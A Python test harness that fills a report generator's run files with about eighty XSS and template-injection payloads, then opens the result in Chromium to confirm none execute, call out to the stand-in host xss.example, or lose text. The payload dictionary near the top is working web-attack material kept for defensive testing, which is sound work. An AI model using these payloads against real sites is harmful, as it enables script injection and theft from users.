"""What a model, a data file or a run's config may hold to make the report's page do something: all of it, in all fields, in a browser.

    python tests/faults/xss.py      results/faults/xss.json

A page is opened in Chromium, scrolled, filtered and hovered over. Nothing may call `__xss`, open a dialog, ask for an address, complain
on the console or become an element; and every payload must stand on the page as it was written.
"""

from __future__ import annotations

import json
import sys
import tempfile
import time
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parents[1]))
sys.path.insert(0, str(Path(__file__).parents[1] / "report"))

import yaml
from chromium import CHROMIUM, FLAGS
from report_folders import make_comparison, make_run

from whet.report.page import write_report

X = "__xss(1)"

PAYLOADS: Mapping[str, str] = {
    "script": f"<script>{X}</script>",
    "script, mixed case": f"<ScRiPt >{X}</sCrIpT >",
    "script, broken": f"<scr<script>ipt>{X}</scr</script>ipt>",
    "script from elsewhere": "<script src=//xss.example/x.js></script>",
    "module": "<script type=module>import 'https://xss.example/m.js'</script>",
    "end of a script": f"</script><script>{X}</script>",
    "end of a script in a comment": f"<!--<script>--></script><script>{X}</script>",
    "end of a style": f"</style><script>{X}</script>",
    "end of a title": f"</title><script>{X}</script>",
    "end of a pre": f"</pre></code></li></ol><script>{X}</script>",
    "end of an option": f"</option></select><img src=x onerror={X}>",
    "img": f"<img src=x onerror={X}>",
    "img, no spaces": f"<img/src=x/onerror={X}//",
    "img elsewhere": "<img src=https://xss.example/pixel.png>",
    "svg": f"<svg onload={X}>",
    "svg script": f"<svg><script>{X}</script></svg>",
    "svg animate": f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    "svg use": "<svg><use href=//xss.example/x.svg#x></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={X}&gt;\">",
    "iframe": f"<iframe srcdoc='<script>parent.{X}</script>'></iframe>",
    "iframe url": f"<iframe src=javascript:parent.{X}></iframe>",
    "object": "<object data=https://xss.example/x.swf></object>",
    "embed": f"<embed src=javascript:{X}>",
    "link": "<link rel=stylesheet href=https://xss.example/x.css>",
    "meta": f"<meta http-equiv=refresh content='0;url=javascript:{X}'>",
    "base": "<base href=https://xss.example/>",
    "form": f"<form action=javascript:{X}><input autofocus onfocus={X}></form>",
    "details": f"<details open ontoggle={X}>x</details>",
    "body": f"<body onload={X} onpageshow={X}>",
    "video": f"<video><source onerror={X}></video>",
    "marquee": f"<marquee onstart={X}>x</marquee>",
    "double quote": f"\" onmouseover={X} autofocus tabindex=1 onfocus={X} x=\"",
    "single quote": f"' onmouseover={X} autofocus tabindex=1 onfocus={X} x='",
    "backtick": f"` onmouseover={X} x=`",
    "quote and bracket": f"\"><img src=x onerror={X}>",
    "url": f"javascript:{X}",
    "url, entities": f"<a href=\"&#106;avascript:{X}\">x</a>",
    "url, white space": f"<a href=\"java\nscript:{X}\">x</a>",
    "url of data": f"<a href='data:text/html,<script>parent.{X}</script>'>x</a>",
    "entities": f"&lt;img src=x onerror={X}&gt; &#60;script&#62;{X}&#60;/script&#62;",
    "entities twice": f"&amp;lt;script&amp;gt;{X}&amp;lt;/script&amp;gt;",
    "comment": f"--><script>{X}</script><!--",
    "comment, bang": f"--!><script>{X}</script><!--",
    "cdata": f"]]><script>{X}</script><![CDATA[",
    "processing": f"<?xml version='1.0'?><script>{X}</script>",
    "template": f"{{{{ {X} }}}} {{% raw %}} {{{{ self.__init__.__globals__ }}}} ${{{X}}} #{{{X}}} <%= {X} %>",
    "template, jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in () %}{% endfor %}",
    "end of a string": f"\"}};{X};//",
    "end of a string, single": f"';{X};//",
    "end of a string, escaped": f"\\\";{X};//",
    "end of a json": f"\"}}]}}</script><script>{X}</script>",
    "line separators": f"\u2028{X};\u2029{X};//",
    "css": f"}} * {{ background: url(https://xss.example/x.png); }} /* expression({X}) */",
    "css, import": "</style><style>@import 'https://xss.example/x.css';</style>",
    "css, attribute": "red; background: url(https://xss.example/y.png)",
    "vega call": f"datum.constructor.constructor('{X}')()",
    "vega quote": f"' + {X} + '",
    "vega signal": f"{{\"signal\": \"{X}\"}}",
    "vega url": "{\"url\": \"https://xss.example/data.json\"}",
    "vega field": "a.b[0]['c'].__proto__.constructor",
    "prototype": "__proto__",
    "constructor": "constructor",
    "vega tooltip image": "{\"image\": \"https://xss.example/t.png\", \"title\": \"<img src=x onerror=__xss(1)>\"}",
    "markdown": f"[x](javascript:{X}) ![x](https://xss.example/m.png) **b** <https://xss.example>",
    "utf-7": f"+ADw-script+AD4-{X}+ADw-/script+AD4-",
    "wide": f"\uff1cscript\uff1e{X}\uff1c/script\uff1e",
    "overlong": f"\u00bcscript\u00be{X}\u00bc/script\u00be",
    "null": f"<scr\0ipt>{X}</scr\0ipt><im\0g src=x onerror={X}>",
    "control": f"\x1b]8;;https://xss.example\x07\x08\x7f\x0c<script>{X}</script>",
    "carriage return": f"a\r\nb\rc<script>{X}</script>",
    "bidi": "\u202egnorw si rewsna eht\u202c \u2067x\u2066y \u202d",
    "zero width": f"<\u200bscript>{X}</script>\ufeff\u2060",
    "half of a character": "\ud83d \udc00",
    "combining": "a" + "\u0334\u0338\u0489" * 200,
    "long": "<b>" + "A" * 20_000,
    "long, broken": "<i>" + "A " * 5_000,
    "emoji": "\U0001f4a5\u200d\U0001f525" * 20,
    "nothing but space": " \t\u00a0\u3000 ",
}  # fmt: skip

SPY = """
window.__calls = [];
window.__xss = (n) => { window.__calls.push(String(n)); };
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => window.__xss(name);
"""
LOOK = """() => {
  const all = [...document.querySelectorAll("*")];
  const counts = {};
  for (const tag of ["script", "style", "img", "iframe", "object", "embed", "link", "meta", "base", "video", "audio", "marquee", "math",
                     "input", "image", "use", "animate", "foreignObject", "template"])
    counts[tag] = document.querySelectorAll(tag).length;
  return {
    calls: window.__calls,
    handlers: all.flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith("on")).map((n) => e.tagName + " " + n)),
    addresses: all.flatMap((e) => ["href", "src", "action", "data", "xlink:href", "srcdoc", "formaction"]
      .map((n) => e.getAttribute(n)).filter((v) => v && !v.startsWith("#") && v !== "data:,")),
    counts, title: document.title, text: document.body.textContent,
    escaped: document.querySelectorAll("[data-chart] svg").length, charts: document.querySelectorAll("[data-chart]").length,
  };
}"""


def spoil(folder: Path, payload: str) -> Path:
    """Put a payload into every field of a run's folder that a model, a data file, a name or an error may have filled."""
    config = yaml.safe_load((folder / "run.yaml").read_text())
    record = {**config.pop("record"), "started": payload, "versions": {"whet": payload, payload: payload}}
    config |= {"recipe": payload, "task": payload, "model": payload, "verifier": payload, "weights": payload, "dtype": payload,
               "validation": payload, "test": payload, "track": payload, "budget": payload, "others": [payload], "probes": [payload],
               "arguments": {"steps": 4, "note": payload, payload: payload, "parts": [payload, {payload: payload}]}}  # fmt: skip
    (folder / "run.yaml").write_text(yaml.safe_dump({**config, "record": record}, sort_keys=False))
    _each(folder / "samples.jsonl", lambda row: {**row, "prompt": f"{payload} {row['problem']}", "gold": payload, "answer": payload,
                                                 "status": row["status"] if row["correct"] else payload})  # fmt: skip
    _each(folder / "metrics.jsonl", lambda row: {
        **row, **({"stage": payload, "warnings": [payload], f"reward/{payload}": 0.5, f"loss/{payload}": 0.1, f"problems/{payload}": 0.3,
                   f"hardest/{payload}": 0.1, payload: 0.2, f"seconds/{payload}": 0.1} if "share" in row else
                  {f"validation/{payload}": 0.4})})  # fmt: skip
    for name in ("before.json", "summary.json"):
        found = json.loads((folder / name).read_text())
        found["others"] = {payload: next(iter(found["others"].values()))}
        if name == "summary.json":
            found |= {"recipe": payload, "task": payload, "model": {**found["model"], "name": payload, "hash": payload}}
            found["after"][payload] = found["before"][payload] = 0.5
        (folder / name).write_text(json.dumps(found))
    for when in ("before", "after"):
        text = (folder / f"matrix-{when}.json").read_text()
        (folder / f"matrix-{when}.json").write_text(text.replace('"p0"', json.dumps(payload)))
    return folder


def spoil_comparison(folder: Path, payload: str) -> Path:
    """The same for a comparison; its arms are made with names of the payload already."""
    found = json.loads((folder / "results.json").read_text())
    found |= {"task": payload, "model": {**found["model"], "name": payload}, "versions": {payload: payload}}
    found["asked"] |= {"task": payload, "model": payload, "budget": payload, "settings": {payload: payload, "test_n": 4},
                       "sweep": {payload: [payload]}}  # fmt: skip
    for arm in found["arms"]:
        arm["settings"] = {payload: payload}
    if found.get("forgetting"):
        found["forgetting"] |= {"suite": payload, "tasks": [payload, payload], "why": payload}
        missed = found["forgetting"]["at_accuracy"]["missed"]
        found["forgetting"]["at_accuracy"]["missed"] = dict.fromkeys(missed, payload)
    (folder / "results.json").write_text(json.dumps(found))
    for run in sorted((folder / "runs").iterdir())[:1]:
        spoil(run, payload)
    return folder


def _each(file: Path, change: Any) -> None:
    rows = [change(json.loads(line)) for line in file.read_text().splitlines()]
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))


def evil_page(place: Path, payloads: Sequence[str], comparisons: int = 1) -> Path:
    """A page of a run for each payload, and of comparisons for the first ones."""
    runs = [
        spoil(make_run(place / f"run-{i}", seed=0, before="0010", after="0110"), text)
        for i, text in enumerate(payloads)
    ]
    compared = []
    for i, text in enumerate(payloads[:comparisons]):
        made = make_comparison(
            place / f"compared-{i}", {f"grpo:{text}": ["1110", "1111"], f"sft:{text}": ["1000", "1010"]}
        )
        compared.append(spoil_comparison(made, text))
    return write_report([*compared, *runs], place / "report.html")


def look(browser: Any, page_file: Path, payloads: Sequence[str]) -> dict[str, list[str]]:
    """Open a page, do what a reader does, and say all that is wrong, by kind."""
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    page = context.new_page()
    wrong: dict[str, list[str]] = {
        name: [] for name in ("ran", "dialog", "request", "console", "element", "attribute", "lost")
    }
    page.on("dialog", lambda dialog: (wrong["dialog"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: wrong["console"].append(message.text[:300]))
    page.on("pageerror", lambda problem: wrong["console"].append(str(problem)[:300]))
    page.on("request", lambda request: wrong["request"].append(request.url[:200]))
    page.add_init_script(SPY)
    page.goto(page_file.as_uri(), timeout=60_000)
    charts = page.locator("[data-chart]").count()
    until = (
        time.monotonic() + 60
    )  # asked from here: what waits inside the page would need the eval that its policy forbids
    while page.locator("[data-chart] svg.marks").count() < charts and time.monotonic() < until:
        page.wait_for_timeout(50)
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
    page.evaluate("""() => { for (const shape of document.querySelectorAll('[data-chart] svg path, [data-chart] svg text'))
        for (const kind of ['mouseover', 'mousemove', 'focus', 'click'])
            shape.dispatchEvent(new MouseEvent(kind, { bubbles: true, clientX: 5, clientY: 5 })); }""")
    for block in page.locator("[data-answers]").all():
        for text in payloads[:3]:
            block.locator("input[name=text]").fill(text[:200].replace("\n", " "))
        block.locator("input[name=text]").fill("")
        more = block.get_by_role("button", name="Show more")
        while more.is_visible():
            more.click()
    page.wait_for_timeout(150)
    found = page.evaluate(LOOK)
    wrong["ran"] += found["calls"]
    wrong["request"] = [url for url in wrong["request"] if url != page_file.as_uri() and url != "data:,"]
    wrong["attribute"] += found["handlers"] + found["addresses"]
    # what the page itself is made of: three scripts and its data would be four
    own = {
        "script": 3,
        "style": 1,
        "link": 1,
        "meta": 4,
        "input": page.locator("[data-answers] input[name=text]").count(),
    }
    wrong["element"] += [f"{n} {tag}" for tag, n in found["counts"].items() if tag != "style" and n != own.get(tag, 0)]
    shown = _plain(found["text"])
    wrong["lost"] += [text[:60] for text in payloads if _plain(text)[:5000] not in shown]
    context.close()
    return wrong


def _plain(text: str) -> str:
    """As a page can show it: HTML has no null and no lone half of a character; white space is not compared."""
    text = text.replace("\0", "").encode("utf-8", "replace").decode()
    return "".join(text.split())


@contextmanager
def opened() -> Iterator[Any]:
    """A browser. Raises LookupError, with the reason, where there is none."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        raise LookupError("Playwright is not installed: pip install 'whet[dev]'") from None
    if not CHROMIUM:
        raise LookupError("there is no Chromium on PATH: apt-get install chromium, or name one by WHET_CHROMIUM")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


def survey(at_once: int = 8, comparisons: int = 8) -> dict[str, Any]:
    """All payloads in all fields: how many there are, and what each kind of harm was seen how often."""
    names = list(PAYLOADS)
    wrong: dict[str, list[str]] = {}
    with opened() as browser, tempfile.TemporaryDirectory() as place:
        for start in range(0, len(names), at_once):
            part = [PAYLOADS[name] for name in names[start : start + at_once]]
            for kind, found in look(browser, evil_page(Path(place) / str(start), part, comparisons), part).items():
                wrong.setdefault(kind, []).extend(found)
    return {"payloads": len(names), "fields": FIELDS, "pages": -(-len(names) // at_once), "of_runs": len(names),
            "of_comparisons": sum(min(comparisons, len(names[i : i + at_once])) for i in range(0, len(names), at_once)),
            **{kind: len(found) for kind, found in wrong.items()}, "seen": [text for found in wrong.values() for text in found][:20],
            "holds": not any(wrong.values())}  # fmt: skip


# of a run: config and record 22, samples 4, metrics 10, summaries 9, matrices 2; of a comparison: 12 besides
FIELDS = 59


def main() -> None:
    from load import keep

    found = survey()
    keep("xss", found)
    print(json.dumps(found, indent=1))


if __name__ == "__main__":
    main()
